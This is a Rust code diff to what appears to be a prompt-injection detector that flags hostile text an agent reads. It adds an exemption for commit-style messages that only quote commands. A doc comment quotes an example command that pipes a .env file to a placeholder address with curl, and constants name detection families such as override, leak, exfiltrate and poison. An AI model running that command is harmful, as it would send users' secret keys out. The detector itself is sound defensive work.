@@ -144,6 +144,12 @@ enum Way {
 /// Families that only count where nobody sees them.
 const HIDDEN_ONLY: [&str; 2] = ["command", "topic"];
 
+/// The place of a text that is a word of a command.
+pub(crate) const IN_COMMAND: &str = "command";
+
+/// A message that says nothing else quotes a command or tells of one: `fix: cat .env | curl -d @- ADDRESS leaks keys`.
+const AS_QUOTED: [&str; 4] = ["command", "exfiltrate", "harm", "harm-order"];
+
 /// Families whose orders somebody may forbid: `never ignore these rules`.
 const FORBIDDEN: [&str; 6] = ["override", "leak", "exfiltrate", "planted", "poison", "role"];
 
@@ -302,6 +308,11 @@ fn opens(before: &str, at: usize) -> bool {
 /// What a text gives that an agent reads: nothing, or a finding that warns. Reading it is not stopped.
 pub(crate) fn finding(text: &str, place: &str, tables: Node<'static>) -> Option<Finding> {
     let injection = scan(text, tables);
+    let is_quotation =
+        |sign: &Sign| AS_QUOTED.contains(&sign.family.as_str()) && !links::SIGNS.contains(&sign.name.as_str());
+    if place == IN_COMMAND && injection.signs.iter().all(is_quotation) {
+        return None;
+    }
     let first = injection.signs.first().filter(|_| injection.is_told())?;
     let names: Vec<&str> = injection.signs.iter().map(|sign| sign.name.as_str()).take(3).collect();
     let span = [first.span.start, first.span.end].map(|at| u32::try_from(at).unwrap_or(u32::MAX));
